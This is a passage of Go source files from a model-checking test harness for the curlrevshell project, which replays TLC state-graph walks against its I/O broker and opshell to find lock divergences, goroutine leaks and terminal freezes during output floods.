	res, err := tlcrun.Run(tlcrun.Opts{Module: "OpshellLocks", Config: cfg, Workers: 8, Timeout: 15 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	r.Append("tlc_invariants_checked", "OpshellLocks: TypeOK NoLockCycle LockOrder HoldersConsistent; liveness KeysProcessed AnnouncementsShown WriterProgresses MuteEnds")
	g.SetInitByNoIncoming()
	rng := rand.New(rand.NewSource(r.Seed))
	walks := g.CoveringWalks(rng, perWalk)
	r.Set("lock_edge_cover_walks", len(walks))
	if len(walks) > limit {
		rng.Shuffle(len(walks), func(i, j int) { walks[i], walks[j] = walks[j], walks[i] })
		walks = walks[:limit]
	}
	type job struct {
		divs []olDiv
		err  error
	}
	jobs := make([]job, len(walks))
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i := range walks {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			jobs[i].divs, jobs[i].err = opLocksWalk(gated, g, walks[i])
		}(i)
	}
	wg.Wait()
	seen := map[string]bool{}
	nerr := 0
	for i, j := range jobs {
		if j.err != nil {
			nerr++
			if nerr <= 3 {
				r.Inconclusive("lock walk: %v", j.err)
			}
			continue
		}
		for _, d := range j.divs {
			if seen[d.aspect] {
				continue
			}
			// a verdict only when the same walk diverges again (twice in up to four re-runs)
			hits := 0
			for k := 0; k < 4 && hits < 2; k++ {
				d2, err := opLocksWalk(gated, g, walks[i])
				if err != nil {
					continue
				}
				for _, x := range d2 {
					if x.aspect == d.aspect {
						hits++
						break
					}
				}
			}
			if hits == 0 {
				transient(r, "lock walk divergence %s: %s (%v)", d.aspect, d.desc, d.labels)
				continue
			}
			if hits == 1 {
				r.Inconclusive("lock walk divergence %s reproduced only once in four re-runs: %s (%v)", d.aspect, d.desc, d.labels)
				continue
			}
			seen[d.aspect] = true
			r.Violation(d.aspect, map[string]any{"kind": "OpshellLocks walk on the real opshell (gated)", "desc": d.desc, "step": d.step, "labels": d.labels})
		}
	}
	r.Add("evaluations", len(walks))
	r.Add("traces_validated_against_impl", len(walks))
	// free-running: Ctrl+O typed into a flood
	frozen, unmute := 0, 0
	var fdetail string
	fsem := make(chan struct{}, 8)
	var fmu sync.Mutex
	for t := 0; t < trials; t++ {
		wg.Add(1)
		fsem <- struct{}{}
		go func(t int) {
			defer wg.Done()
			defer func() { <-fsem }()
			trng := rand.New(rand.NewSource(r.Seed*7919 + int64(t)))
			off := time.Duration(5+trng.Intn(60)) * time.Millisecond
			f, detail, err := floodTrial(plain, off, 1+t%3)
			fmu.Lock()
			defer fmu.Unlock()
			if err != nil {
				return
			}
			if f {
				frozen++
				fdetail = detail
			} else if detail != "" {
				unmute++
				if fdetail == "" {
					fdetail = detail
				}
			}
		}(t)
	}
	wg.Wait()
	r.Set("flood_trials", trials)
	r.Set("flood_trials_frozen", frozen)
	r.Add("evaluations", trials)
	if frozen >= 2 && !seen["terminal-freezes"] {
		r.Violation("terminal-freezes", map[string]any{"kind": "Ctrl+O typed into a continuous flood of shell output, free-running", "frozen_trials": frozen, "trials": trials, "desc": fdetail})
	} else if frozen == 1 {
		r.Inconclusive("one of %d flood trials left the terminal without a status line (%s)", trials, fdetail)
	}
	if unmute >= 2 && !seen["never-unmutes"] {
		r.Violation("never-unmutes", map[string]any{"kind": "Ctrl+O typed into a flood, free-running", "trials_without_unmute": unmute, "trials": trials, "desc": fdetail})
	}
}
