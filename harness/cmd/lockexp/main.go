// experiment: does Ctrl+O during a flood freeze the real opshell?
package main

import (
	"bytes"
	"fmt"
	"os"
	"regexp"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
)

func trial(helper string, i int) (frozen bool, err error) {
	rd, wr, err := os.Pipe()
	if err != nil {
		return false, err
	}
	defer wr.Close()
	p, err := ptyx.Start(helper, nil, ptyx.Opts{ExtraFiles: []*os.File{rd}})
	rd.Close()
	if err != nil {
		return false, err
	}
	defer p.Close()
	dl := time.Now().Add(10 * time.Second)
	for !bytes.Contains(p.Output(), []byte("<READY>")) {
		if time.Now().After(dl) {
			return false, fmt.Errorf("helper did not come up")
		}
		time.Sleep(time.Millisecond)
	}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for k := 0; ; k++ {
			select {
			case <-stop:
				return
			default:
			}
			fmt.Fprintf(wr, "P flood line %d\\n\n", k)
		}
	}()
	time.Sleep(time.Duration(30+i%20) * time.Millisecond)
	p.Type([]byte{0x0f})
	time.Sleep(100 * time.Millisecond)
	close(stop)
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		// writer blocked because helper no longer reads: frozen
		p.Cmd.Process.Signal(syscall.SIGQUIT)
		time.Sleep(500 * time.Millisecond)
		os.WriteFile("/tmp/lockexp-stacks.txt", append(p.Output(), p.Stderr()...), 0o644)
		return true, nil
	}
	time.Sleep(2600 * time.Millisecond)
	off := len(p.Output())
	fmt.Fprintf(wr, "S marker-%d\n", i)
	_, ok := p.WaitFor(regexp.MustCompile(fmt.Sprintf("marker-%d", i)), off, 4*time.Second)
	if !ok {
		p.Cmd.Process.Signal(syscall.SIGQUIT)
		time.Sleep(500 * time.Millisecond)
		os.WriteFile("/tmp/lockexp-stacks.txt", append(p.Output(), p.Stderr()...), 0o644)
	}
	return !ok, nil
}

func main() {
	n := 0
	for i := 0; i < 3; i++ {
		f, err := trial(os.Args[1], i)
		fmt.Println(i, f, err)
		if f {
			n++
		}
	}
	fmt.Println("frozen", n, "of 20")
}
