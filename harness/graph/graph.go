// Package graph holds the labelled state graph TLC emitted and derives walks
// (sequences of edges starting in the initial state) that cover every edge.
package graph

import (
	"bytes"
	"encoding/json"
	"math/rand"
)

// Edge is one transition.
type Edge struct {
	From, To int
	Act      json.RawMessage
	ToState  json.RawMessage
}

// G is a state graph.
type G struct {
	ids   map[string]int
	State []json.RawMessage
	Edges []Edge
	Out   [][]int // edge indexes leaving each state
	Init  int
}

// New returns an empty graph.
func New() *G { return &G{ids: map[string]int{}, Init: -1} }

// canon re-renders JSON with sorted object keys: TLC does not always print the
// fields of a record in the same order, and the same state must get one id.
func canon(s json.RawMessage) json.RawMessage {
	if !bytes.Contains(s, []byte("{")) {
		return s
	}
	var v any
	if err := json.Unmarshal(s, &v); err != nil {
		return s
	}
	b, err := json.Marshal(v)
	if err != nil {
		return s
	}
	return b
}

func (g *G) id(s json.RawMessage) int {
	k := string(s)
	if i, ok := g.ids[k]; ok {
		return i
	}
	i := len(g.State)
	g.ids[k] = i
	g.State = append(g.State, s)
	g.Out = append(g.Out, nil)
	return i
}

// AddEdgeJSON adds an edge given as {"from":..,"act":..,"to":..}.  The first
// edge whose action's predecessor is the initial state defines Init: callers
// pass isInit for that.
func (g *G) AddEdgeJSON(line string) error {
	var e struct {
		From json.RawMessage `json:"from"`
		Act  json.RawMessage `json:"act"`
		To   json.RawMessage `json:"to"`
	}
	if err := json.Unmarshal([]byte(line), &e); err != nil {
		return err
	}
	e.From, e.To = canon(e.From), canon(e.To)
	f, t := g.id(e.From), g.id(e.To)
	g.Edges = append(g.Edges, Edge{From: f, To: t, Act: e.Act, ToState: e.To})
	g.Out[f] = append(g.Out[f], len(g.Edges)-1)
	return nil
}

// SetInitByNoIncoming picks as initial the state that has no incoming edge
// (the broker specifications never return to their initial state's full
// view), falling back to state 0.
func (g *G) SetInitByNoIncoming() {
	in := make([]int, len(g.State))
	for _, e := range g.Edges {
		if e.From != e.To {
			in[e.To]++
		}
	}
	g.Init = 0
	for i, n := range in {
		if n == 0 {
			g.Init = i
			return
		}
	}
}

// CoveringWalks returns walks from Init which together traverse every edge
// reachable from Init at least once.
func (g *G) CoveringWalks(rng *rand.Rand, maxLen int) [][]int {
	n := len(g.State)
	// BFS tree for shortest paths from Init.
	parentEdge := make([]int, n)
	for i := range parentEdge {
		parentEdge[i] = -2
	}
	parentEdge[g.Init] = -1
	queue := []int{g.Init}
	for len(queue) > 0 {
		s := queue[0]
		queue = queue[1:]
		for _, ei := range g.Out[s] {
			t := g.Edges[ei].To
			if parentEdge[t] == -2 {
				parentEdge[t] = ei
				queue = append(queue, t)
			}
		}
	}
	pathTo := func(s int) []int {
		var p []int
		for s != g.Init {
			ei := parentEdge[s]
			p = append(p, ei)
			s = g.Edges[ei].From
		}
		for i, j := 0, len(p)-1; i < j; i, j = i+1, j-1 {
			p[i], p[j] = p[j], p[i]
		}
		return p
	}
	covered := make([]bool, len(g.Edges))
	next := make([]int, n) // per-state cursor into Out
	var walks [][]int
	order := rng.Perm(len(g.Edges))
	for _, start := range order {
		if covered[start] || parentEdge[g.Edges[start].From] == -2 {
			continue
		}
		w := pathTo(g.Edges[start].From)
		for _, ei := range w {
			covered[ei] = true
		}
		cur := g.Edges[start].From
		ei := start
		for {
			w = append(w, ei)
			covered[ei] = true
			cur = g.Edges[ei].To
			if len(w) >= maxLen {
				break
			}
			// continue along an uncovered edge if there is one
			found := -1
			for next[cur] < len(g.Out[cur]) {
				c := g.Out[cur][next[cur]]
				next[cur]++
				if !covered[c] {
					found = c
					break
				}
			}
			if found < 0 {
				break
			}
			ei = found
		}
		walks = append(walks, w)
	}
	return walks
}

// RandomWalks returns k random walks of at most maxLen steps.
func (g *G) RandomWalks(rng *rand.Rand, k, maxLen int) [][]int {
	var walks [][]int
	for i := 0; i < k; i++ {
		var w []int
		cur := g.Init
		for len(w) < maxLen && len(g.Out[cur]) > 0 {
			ei := g.Out[cur][rng.Intn(len(g.Out[cur]))]
			w = append(w, ei)
			cur = g.Edges[ei].To
		}
		walks = append(walks, w)
	}
	return walks
}
