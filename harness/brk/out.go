package brk

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"runtime/pprof"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// EnvStep is one environment step of a BrokerOut / BrokerIn behaviour.
type EnvStep struct {
	N string `json:"n"`
	D bool   `json:"d,omitempty"` // Read: with data
	X bool   `json:"x,omitempty"` // Read: with error
}

// TraceEv is one line of a recorded trace.
type TraceEv map[string]any

// OutOpts configures one output-path execution.
type OutOpts struct {
	OchCap int
	Settle bool  // wait for the implementation to settle after each environment step
	IO     bool  // attach through ConnectInOut (a half of /io) instead of ConnectOut
	Seed   int64 // chunk sizes, error kinds
}

// OutResult is what an execution produced.
type OutResult struct {
	Trace     []TraceEv
	SentBytes []byte   // bytes handed to the broker by the transport, in order
	Shown     [][]byte // Plain lines taken by the terminal, in order
	NoticeAt  int      // index in the take sequence at which the close notice arrived (-1: none)
	Takes     int
	SelfEnded bool // a read error was returned before any cancellation
	Cancelled bool
	Leaked    []string
	LogData   []string // data of the output "Shell I/O" records, in order
	LogConn   int      // connect records
	LogDisc   int      // disconnect records
	Infra     error
	CloseLine string
}

var worldCounter atomic.Int64

type recorder struct {
	mu sync.Mutex
	ev []TraceEv
}

func (r *recorder) add(e TraceEv) {
	r.mu.Lock()
	r.ev = append(r.ev, e)
	r.mu.Unlock()
}

// labelledGoroutines returns stacks of goroutines carrying the pprof label
// vworld=<id> that are running broker code.
func labelledGoroutines(id string) []string {
	var buf bytes.Buffer
	pprof.Lookup("goroutine").WriteTo(&buf, 1)
	var out []string
	for _, blk := range strings.Split(buf.String(), "\n\n") {
		if strings.Contains(blk, `"vworld":"`+id+`"`) && strings.Contains(blk, "internal/iobroker.") {
			out = append(out, blk)
		}
	}
	return out
}

func waitNoLabelled(id string, d time.Duration) []string {
	dl := time.Now().Add(d)
	for {
		g := labelledGoroutines(id)
		if len(g) == 0 || time.Now().After(dl) {
			return g
		}
		time.Sleep(3 * time.Millisecond)
	}
}

// streamByte is the content of the byte at offset o of an output stream.
func streamByte(seed int64, o int) byte {
	x := uint64(o)*0x9E3779B97F4A7C15 + uint64(seed)
	x ^= x >> 29
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 32
	return byte(x)
}

var chunkSizes = []int{1, 2, 7, 100, 2047, 2048}

// RunOut drives one attached output stream through the environment schedule
// and records the trace.
func RunOut(sched []EnvStep, o OutOpts) *OutResult {
	res := &OutResult{NoticeAt: -1}
	rng := rand.New(rand.NewSource(o.Seed))
	w, err := NewWorld(o.OchCap, false)
	if err != nil {
		res.Infra = err
		return res
	}
	id := fmt.Sprint(worldCounter.Add(1))
	rec := &recorder{}
	var h *Half
	accepted := make(chan struct{})
	released := make(chan struct{})
	// attach phase: a taker keeps the operator channel moving until attached
	stopTaker := make(chan struct{})
	takerDone := make(chan struct{})
	go func() {
		defer close(takerDone)
		for {
			select {
			case <-w.Och:
			case <-stopTaker:
				return
			}
		}
	}()
	var (
		cmu    sync.Mutex
		chunks [][]byte
		nlog   int
	)
	off := 0
	// chunkNo maps content to a chunk number, preferring the expected one.
	chunkNo := func(data string, expect int) int {
		if expect >= 1 && expect <= len(chunks) && string(chunks[expect-1]) == data {
			return expect
		}
		for i, c := range chunks {
			if string(c) == data {
				return i + 1
			}
		}
		return -1
	}
	onRead := func(n int, data []byte, e error) {
		cmu.Lock()
		if n > 0 {
			chunks = append(chunks, append([]byte(nil), data[:n]...))
			res.SentBytes = append(res.SentBytes, data[:n]...)
		}
		if e != nil && !res.Cancelled {
			res.SelfEnded = true
		}
		cmu.Unlock()
		rec.add(TraceEv{"e": "Read", "d": n > 0, "x": e != nil})
	}
	pprof.Do(context.Background(), pprof.Labels("vworld", id), func(context.Context) {
		if o.IO {
			hi, ho := w.StartIO(1, 2, 1, "")
			_ = hi
			h = ho
		} else {
			h = w.StartUni(2, "out", "k", 1, "")
		}
	})
	h.R.SetOnRead(onRead)
	w.Log.OnRec = func(r LogRec) {
		if r.Msg == iobroker.LMShellIO && r.Attrs[iobroker.LKDirection] == string(iobroker.LVOutput) {
			cmu.Lock()
			nlog++
			v := chunkNo(r.Attrs[iobroker.LKData], nlog)
			cmu.Unlock()
			rec.add(TraceEv{"e": "Log", "v": v})
		}
	}
	go func() {
		seenUnlocked := false
		for p := range h.finished {
			if p == "unlocked" && !seenUnlocked {
				seenUnlocked = true
				close(accepted)
			}
			if p == "done" {
				rec.add(TraceEv{"e": "Released"})
				close(released)
				return
			}
		}
	}()
	select {
	case <-accepted:
	case <-time.After(Wait):
		res.Infra = errors.New("output stream was not attached")
		close(stopTaker)
		w.Cleanup()
		return res
	}
	if o.IO {
		// wait for the input half as well so that its notices are out of the way
		time.Sleep(300 * time.Microsecond)
	}
	// let the attach-time notices drain, then stop the taker
	time.Sleep(200 * time.Microsecond)
	close(stopTaker)
	<-takerDone

	closeSeen := false
	take := func(d time.Duration) bool {
		select {
		case cl := <-w.Och:
			if !cl.Plain {
				if strings.Contains(cl.Line, iobroker.ShellReadyMessage) || strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) {
					return true
				}
				if o.IO && strings.Contains(strings.ToLower(cl.Line), "input") {
					return true // the other half's notice
				}
				if !strings.Contains(cl.Line, "["+h.Addr+"]") {
					return true
				}
				if !strings.Contains(cl.Line, "closed") {
					// an attach-time notice that reached the channel late (loaded machine): not the
					// closing notice
					return true
				}
				if closeSeen {
					rec.add(TraceEv{"e": "Take", "v": 0})
					return true
				}
				closeSeen = true
				res.NoticeAt = res.Takes
				res.CloseLine = cl.Line
				res.Takes++
				rec.add(TraceEv{"e": "Take", "v": 0})
				return true
			}
			res.Shown = append(res.Shown, []byte(cl.Line))
			res.Takes++
			cmu.Lock()
			v := chunkNo(cl.Line, len(res.Shown))
			cmu.Unlock()
			rec.add(TraceEv{"e": "Take", "v": v})
			return true
		case <-time.After(d):
			return false
		}
	}
	sig := func() [4]int {
		c, r, _ := h.R.Stats()
		return [4]int{c, r, len(w.Och), len(w.Log.Records())}
	}
	settle := func() {
		if !o.Settle {
			return
		}
		last := sig()
		stable := time.Now()
		dl := time.Now().Add(4 * time.Millisecond)
		for time.Now().Before(dl) {
			time.Sleep(60 * time.Microsecond)
			s := sig()
			if s != last {
				last = s
				stable = time.Now()
			} else if time.Since(stable) > 250*time.Microsecond {
				return
			}
		}
	}
	closed := false
	for _, st := range sched {
		switch st.N {
		case "Read":
			if closed {
				continue
			}
			var rr RRes
			if st.D {
				n := chunkSizes[rng.Intn(len(chunkSizes))]
				b := make([]byte, n)
				for i := range b {
					b[i] = streamByte(o.Seed, off+i)
				}
				off += n
				rr.Data = b
			}
			if st.X {
				switch rng.Intn(4) {
				case 0:
					rr.Err = io.EOF
				case 1:
					rr.Err = io.ErrUnexpectedEOF
				case 2:
					rr.Err = io.ErrClosedPipe
				default:
					rr.Err = errors.New("transport error")
				}
			}
			h.R.Push(rr)
			if st.X {
				closed = true // nothing is read after an error
			}
		case "Term":
			d := 50 * time.Microsecond
			if o.Settle {
				d = 2 * time.Millisecond
			}
			take(d)
		case "Cancel":
			if !res.Cancelled {
				cmu.Lock()
				res.Cancelled = true
				cmu.Unlock()
				rec.add(TraceEv{"e": "CancelStart"})
				h.Cancel()
				rec.add(TraceEv{"e": "CancelEnd"})
			}
		case "Close":
			if !closed {
				closed = true
				h.R.CloseRec(func() { rec.add(TraceEv{"e": "Close"}) })
			}
		}
		settle()
	}
	// final phase: close the transport if that has not happened, keep the
	// terminal going until the stream has been released.
	h.R.CloseRec(func() { rec.add(TraceEv{"e": "Close"}) })
	dl := time.Now().Add(Wait)
	relSeen := false
	for !relSeen {
		select {
		case <-released:
			relSeen = true
		default:
			take(200 * time.Microsecond)
		}
		if time.Now().After(dl) {
			break
		}
	}
	for take(300 * time.Microsecond) {
	}
	var leaked []string
	if relSeen {
		if o.IO {
			w.mu.Lock()
			hi := w.Halves[1]
			w.mu.Unlock()
			select {
			case <-hi.returned:
			case <-time.After(Wait):
			}
			for take(300 * time.Microsecond) {
			}
		}
		leaked = waitNoLabelled(id, Wait)
	} else {
		leaked = labelledGoroutines(id)
	}
	res.Leaked = leaked
	rec.add(TraceEv{"e": "Quiesced", "leaked": len(leaked), "released": relSeen})
	// log records
	for _, r := range w.Log.Records() {
		switch r.Msg {
		case iobroker.LMShellIO:
			if r.Attrs[iobroker.LKDirection] == string(iobroker.LVOutput) {
				res.LogData = append(res.LogData, r.Attrs[iobroker.LKData])
			}
		case iobroker.LMNewConnection:
			if r.Attrs[iobroker.LKDirection] == string(iobroker.LVOutput) {
				res.LogConn++
			}
		case iobroker.LMDisconnected:
			if r.Attrs[iobroker.LKDirection] == string(iobroker.LVOutput) {
				res.LogDisc++
			}
		}
	}
	// place Log events: the capturing handler stamps records with the world's
	// sequence counter, but trace order is what TLC needs; records are
	// therefore added to the trace by the handler itself (see OnLog).
	res.Trace = rec.ev
	// clean up
	go func() {
		for {
			select {
			case <-w.Och:
			case <-w.DoDone:
				return
			}
		}
	}()
	if err := w.Cleanup(); err != nil && res.Infra == nil && len(leaked) == 0 {
		res.Infra = err
	}
	return res
}

// MarshalTrace renders trace events as NDJSON.
func MarshalTrace(evs []TraceEv) []byte {
	var b bytes.Buffer
	for _, e := range evs {
		j, _ := json.Marshal(e)
		b.Write(j)
		b.WriteByte('\n')
	}
	return b.Bytes()
}

var _ = opshell.CLine{}
