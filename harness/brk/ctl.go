package brk

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// CtlState is the projection of a BrokerCtl state TLC emitted.
type CtlState struct {
	Key       string   `json:"key"`
	Cin       int      `json:"cin"`
	Cout      int      `json:"cout"`
	Nomore    bool     `json:"nomore"`
	Doret     bool     `json:"doret"`
	Pc        []string `json:"pc"`
	Adir      []string `json:"adir"`
	Akey      []string `json:"akey"`
	Areq      []int    `json:"areq"`
	Cancelled []int    `json:"cancelled"`
	Outcome   []string `json:"outcome"`
	Told      []int    `json:"told"`
	Ready     int      `json:"ready"`
	Gone      int      `json:"gone"`
}

// CtlAct is a BrokerCtl action label.
type CtlAct struct {
	N   string   `json:"n"`
	A   int      `json:"a"`
	B   int      `json:"b"`
	D   string   `json:"d"`
	K   string   `json:"k"`
	O   string   `json:"o"`
	Why string   `json:"why"`
	Rs  []string `json:"rs"`
}

// CtlStep is one step of a behaviour.
type CtlStep struct {
	Act CtlAct
	To  CtlState
}

// ParseCtlStep decodes the raw JSON of an edge.
func ParseCtlStep(act, to json.RawMessage) (CtlStep, error) {
	var s CtlStep
	if err := json.Unmarshal(act, &s.Act); err != nil {
		return s, err
	}
	if err := json.Unmarshal(to, &s.To); err != nil {
		return s, err
	}
	return s, nil
}

// Div is a divergence of the implementation from the specification, already
// attributed to the property whose statement it contradicts.
type Div struct {
	Prop   string `json:"property"`
	Aspect string `json:"aspect"`
	Desc   string `json:"desc"`
	Step   int    `json:"step"`
	Soft   bool   `json:"soft,omitempty"` // the walk can go on after this one
}

// KeyVariants are the relations a "different" callback ID may have to K1.
var KeyVariants = []string{"unrelated", "prefix", "extension", "case", "onebyte", "nul", "space"}

// ConcreteKeys returns concrete strings for the abstract keys K1 and K2.
func ConcreteKeys(rng *rand.Rand) (map[string]string, string) {
	bases := []string{"2hf8sk3jd9x", "ABCdef123", "k", "id with space", "%41%2f..", "ünï", "0"}
	k1 := bases[rng.Intn(len(bases))]
	v := KeyVariants[rng.Intn(len(KeyVariants))]
	var k2 string
	switch v {
	case "unrelated":
		k2 = "zz-other-" + fmt.Sprint(rng.Intn(1000))
	case "prefix":
		if len(k1) > 1 {
			k2 = k1[:len(k1)-1]
		} else {
			k2 = k1 + k1
			v = "extension"
		}
	case "extension":
		k2 = k1 + "x"
	case "case":
		k2 = strings.ToUpper(k1)
		if k2 == k1 {
			k2 = strings.ToLower(k1)
		}
		if k2 == k1 {
			k2 = k1 + "A"
			v = "extension"
		}
	case "onebyte":
		b := []byte(k1)
		b[len(b)-1] ^= 1
		k2 = string(b)
	case "nul":
		k2 = k1 + "\x00"
	case "space":
		k2 = k1 + " "
	}
	return map[string]string{"": "", "K1": k1, "K2": k2}, v
}

// CtlOpts tunes a control replay.
type CtlOpts struct {
	Census bool // take a goroutine census after the walk (serial use only)
}

// CtlResult is what a replay observed.
type CtlResult struct {
	Divs     []Div
	Steps    int
	Variant  string
	Leaked   []string
	Attached int // number of accepted attempts in the walk
}

type ctlRun struct {
	w       *World
	rng     *rand.Rand
	keys    map[string]string
	res     *CtlResult
	step    int
	ioReq   map[int]int // attempt -> request
	nEvents int
	shut    bool
}

func (c *ctlRun) div(prop, aspect, format string, a ...any) {
	c.res.Divs = append(c.res.Divs, Div{Prop: prop, Aspect: aspect, Desc: fmt.Sprintf(format, a...), Step: c.step,
		Soft: aspect == "book-keeping"})
}

func isBidirSpec(k string) bool { return strings.HasPrefix(k, "B") }

// ReplayCtl steps a BrokerCtl behaviour through a real broker.
func ReplayCtl(steps []CtlStep, seed int64, opt CtlOpts) (*CtlResult, error) {
	rng := rand.New(rand.NewSource(seed))
	w, err := NewWorld(4096, true)
	if err != nil {
		return nil, err
	}
	w.SameHost = seed%2 == 1 // every stream from one machine, as a host's own curl processes are
	w.HoldUnlocked = seed%3 == 2
	keys, variant := ConcreteKeys(rng)
	c := &ctlRun{w: w, rng: rng, keys: keys, res: &CtlResult{Variant: variant}, ioReq: map[int]int{}}
	var infra error
	defer func() {}()
	for i, st := range steps {
		c.step = i
		if err := c.do(st); err != nil {
			infra = err
			break
		}
		c.res.Steps++
		hard := false
		for _, d := range c.res.Divs {
			if !d.Soft {
				hard = true
			}
		}
		if hard {
			break
		}
	}
	c.releaseHeld()
	if infra == nil && len(c.res.Divs) == 0 {
		c.final(steps)
	}
	// the same soft divergence at every later step is one divergence
	seenSoft := map[string]bool{}
	kept := c.res.Divs[:0]
	for _, d := range c.res.Divs {
		if d.Soft {
			if seenSoft[d.Prop+d.Aspect] {
				continue
			}
			seenSoft[d.Prop+d.Aspect] = true
		}
		kept = append(kept, d)
	}
	c.res.Divs = kept
	if err := w.Cleanup(); err != nil && infra == nil && len(c.res.Divs) == 0 {
		infra = err
	}
	if opt.Census && infra == nil {
		c.res.Leaked = WaitNoBrokerGoroutines(Wait)
	}
	return c.res, infra
}

func (c *ctlRun) half(a int) *Half {
	c.w.mu.Lock()
	defer c.w.mu.Unlock()
	return c.w.Halves[a]
}

// releaseHeld lets every attempt held behind its admission go on.
func (c *ctlRun) releaseHeld() {
	c.w.mu.Lock()
	hs := make([]*Half, 0, len(c.w.Halves))
	for _, h := range c.w.Halves {
		hs = append(hs, h)
	}
	c.w.mu.Unlock()
	for _, h := range hs {
		h.ReleaseHold()
	}
}

func (c *ctlRun) do(st CtlStep) error {
	w := c.w
	a := st.Act
	if w.HoldUnlocked && a.N != "Shutdown" && a.N != "Admit" && a.N != "ArriveUni" && a.N != "ArriveIO" && a.N != "Hangup" {
		c.releaseHeld()
	}
	if w.HoldUnlocked && a.N == "Shutdown" {
		defer c.releaseHeld()
	}
	switch a.N {
	case "ArriveUni":
		h := w.StartUni(a.A, a.D, c.keys[a.K], st.To.Areq[a.A-1], "")
		if a.D == "out" {
			h.R.Push(RRes{Data: []byte(fmt.Sprintf("<m%d>", a.A))})
		}
		if err := h.WaitParked("admit", Wait); err != nil {
			return err
		}
	case "ArriveIO":
		hi, ho := w.StartIO(a.A, a.B, st.To.Areq[a.A-1], "")
		ho.R.Push(RRes{Data: []byte(fmt.Sprintf("<m%d>", a.B))})
		if err := hi.WaitParked("admit", Wait); err != nil {
			return err
		}
		if err := ho.WaitParked("admit", Wait); err != nil {
			return err
		}
	case "Admit":
		h := c.half(a.A)
		w.Drain()
		h.Open()
		p, err := h.WaitFinished(Wait)
		if err != nil {
			c.div("C01", "ended-at-once", "admission of attempt %d neither attached nor returned: %v", a.A, err)
			return nil
		}
		got := w.Drain()
		real := "refused"
		if p == "unlocked" {
			real = "accepted"
			h.Accepted = true
		} else {
			h.Done = true
		}
		told := false
		for _, cl := range got {
			if !cl.Plain && strings.Contains(cl.Line, "["+h.Addr+"]") &&
				!strings.Contains(cl.Line, iobroker.ShellReadyMessage) &&
				!strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) {
				told = true
			}
		}
		switch {
		case a.O != "accepted" && real == "accepted":
			prop := "C01"
			desc := fmt.Sprintf("attempt %d (%s, key %q) was attached although %v requires refusal (%s)", a.A, h.Dir, st.To.Akey[a.A-1], a.Rs, a.O)
			c.div(prop, "must-refuse", "%s", desc)
			// a C06 violation as well when the other attached half is a /io half of another request
			for _, o := range c.attachedReal() {
				if o.ID != h.ID && o.IO && h.IO && o.Req != h.Req && o.Dir != h.Dir {
					c.div("C06", "cross-pairing", "halves of different /io requests attached together: attempt %d (request %d, %s) and attempt %d (request %d, %s)", o.ID, o.Req, o.Dir, h.ID, h.Req, h.Dir)
				}
			}
		case a.O == "accepted" && real != "accepted":
			c.div("C04", "re-arm", "attempt %d (%s, key %q) was refused although nothing stands in its way (state key=%q in=%d out=%d)", a.A, h.Dir, st.To.Akey[a.A-1], st.To.Key, st.To.Cin, st.To.Cout)
		case a.O == "refused" && !told:
			c.div("C01", "refusal-told", "attempt %d was refused but no notice for %s reached the operator channel", a.A, h.Addr)
		}
		if a.O != "silent" {
			// C11: whatever became of it, a stream that reached a broker that is not shutting down left a record
			dirWord := map[string]string{"in": string(iobroker.LVInput), "out": string(iobroker.LVOutput)}
			n := 0
			for _, r := range w.Log.Records() {
				if r.Attrs["vtag"] != h.Tag {
					continue
				}
				if d, ok := r.Attrs[iobroker.LKDirection]; ok && d != dirWord[h.Dir] {
					continue
				}
				if r.Msg == iobroker.LMNewConnection || r.Level >= 8 {
					n++
				}
			}
			if n == 0 {
				c.div("C11", "unrecorded-stream", "attempt %d (%s, specification: %s) went through admission without a connect or error record", a.A, h.Dir, a.O)
			}
		}
		if real != "accepted" && !h.IO {
			select {
			case <-h.returned:
			case <-time.After(Wait):
				c.div("C01", "ended-at-once", "refused attempt %d did not return", a.A)
			}
		}
	case "Hangup":
		// the client goes away while its attempts wait for the broker's lock
		c.half(a.A).Cancel()
	case "ProxyEnd":
		h := c.half(a.A)
		if a.Why == "self" {
			c.endSelf(h)
		}
		if err := h.WaitParked("release", Wait); err != nil {
			if a.Why == "cancel" {
				c.div("C04", "peer-cancelled", "attempt %d was not ended after its peer released: %v", a.A, err)
			} else {
				c.div("C04", "direction-ends", "attempt %d did not end: %v", a.A, err)
			}
			return nil
		}
	case "Release":
		h := c.half(a.A)
		h.Open()
		if _, err := h.WaitFinished(Wait); err != nil {
			c.div("C04", "release", "attempt %d did not finish its release: %v", a.A, err)
			return nil
		}
		h.Done = true
	case "Shutdown":
		if !w.Shutdown(Wait) {
			c.div("C04", "shutdown", "noMore not set after Do's context was cancelled")
			return nil
		}
		c.shut = true
		if w.HoldUnlocked {
			time.Sleep(2 * time.Millisecond) // a Do that does not wait has returned by now
		}
	case "DoReturns":
		select {
		case <-w.DoDone:
		case <-time.After(Wait):
			c.div("C04", "shutdown-returns", "Broker.Do did not return although nothing is attached")
			return nil
		}
	default:
		return fmt.Errorf("unknown action %q", a.N)
	}
	c.compare(st)
	return nil
}

func (c *ctlRun) attachedReal() []*Half {
	c.w.mu.Lock()
	defer c.w.mu.Unlock()
	var out []*Half
	for _, h := range c.w.Halves {
		if h.Accepted && !h.Done {
			out = append(out, h)
		}
	}
	return out
}

// endSelf makes an attached direction end by itself.
func (c *ctlRun) endSelf(h *Half) {
